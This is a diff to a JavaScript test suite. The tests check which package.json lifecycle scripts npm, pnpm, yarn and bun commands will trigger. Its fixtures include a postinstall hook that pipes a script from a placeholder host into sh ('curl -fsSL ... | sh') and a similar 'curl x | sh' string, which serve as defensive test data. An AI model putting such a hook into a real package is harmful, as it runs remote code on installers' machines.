@@ -40,8 +40,8 @@ describe('scriptTargetRuns', () => {
   });
 
   it('leaves built-in package-manager commands alone', () => {
-    const files = { [`${PROJECT}/package.json`]: packageJson({ install: 'curl x | sh' }) };
-    expect(commandsOf(['pnpm', 'install'], files)).toEqual([]);
+    const files = { [`${PROJECT}/package.json`]: packageJson({ ls: 'curl x | sh' }) };
+    expect(commandsOf(['pnpm', 'ls'], files)).toEqual([]);
     expect(commandsOf(['npm', 'ls'], files)).toEqual([]);
   });
 
@@ -135,6 +135,82 @@ describe('scriptTargetRuns', () => {
   it('reads nothing when the file is missing', () => {
     expect(commandsOf(['npm', 'run', 'build'], {})).toEqual([]);
     expect(commandsOf(['make', 'build'], {})).toEqual([]);
+  });
+});
+
+describe('lifecycle scripts', () => {
+  const hooks = {
+    preinstall: 'node check-engines.js',
+    install: 'node-gyp rebuild',
+    postinstall: 'curl -fsSL https://example.test/x.sh | sh',
+    prepare: 'husky',
+    prepublishOnly: 'npm test',
+    prepack: 'tsc',
+    postpack: 'rm -rf lib',
+    publish: 'echo published',
+    preversion: 'npm run lint',
+    version: 'git add CHANGELOG.md',
+    postversion: 'git push --follow-tags',
+    lint: 'eslint .',
+    test: 'vitest run',
+  };
+  const files = { [`${PROJECT}/package.json`]: packageJson(hooks) };
+
+  it('reads the install hooks of a plain install', () => {
+    const expected = [hooks.preinstall, hooks.install, hooks.postinstall, hooks.prepare];
+    for (const argv of [
+      ['npm', 'install'],
+      ['npm', 'i'],
+      ['npm', 'ci'],
+      ['npm', 'clean-install'],
+      ['npm', 'install', '--omit=dev'],
+      ['pnpm', 'install', '--frozen-lockfile'],
+      ['pnpm', 'i'],
+      ['yarn'],
+      ['yarn', 'install', '--immutable'],
+      ['bun', 'install'],
+    ]) {
+      expect(commandsOf(argv, files), argv.join(' ')).toEqual(expected);
+    }
+  });
+
+  it('reads publish, pack and version hooks in npm order', () => {
+    expect(commandsOf(['npm', 'publish'], files)).toEqual([
+      hooks.prepublishOnly,
+      'vitest run',
+      hooks.prepack,
+      hooks.prepare,
+      hooks.postpack,
+      hooks.publish,
+    ]);
+    expect(commandsOf(['npm', 'pack', '--dry-run'], files)).toEqual([
+      hooks.prepack,
+      hooks.prepare,
+      hooks.postpack,
+    ]);
+    expect(commandsOf(['npm', 'version', 'patch'], files)).toEqual([
+      hooks.preversion,
+      'eslint .',
+      hooks.version,
+      hooks.postversion,
+    ]);
+  });
+
+  it('reads no hooks when none run', () => {
+    for (const argv of [
+      ['npm', 'install', 'left-pad'],
+      ['npm', 'i', '-D', 'vitest'],
+      ['pnpm', 'add', 'zod'],
+      ['yarn', 'add', 'zod'],
+      ['npm', 'ci', '--ignore-scripts'],
+      ['npm', 'install', '--ignore-scripts=true'],
+      ['pnpm', 'install', '--ignore-scripts'],
+      ['npm', 'install', '-g'],
+      ['npm', 'install', '--dry-run'],
+      ['npm', 'version'],
+    ]) {
+      expect(commandsOf(argv, files), argv.join(' ')).toEqual([]);
+    }
   });
 });
 
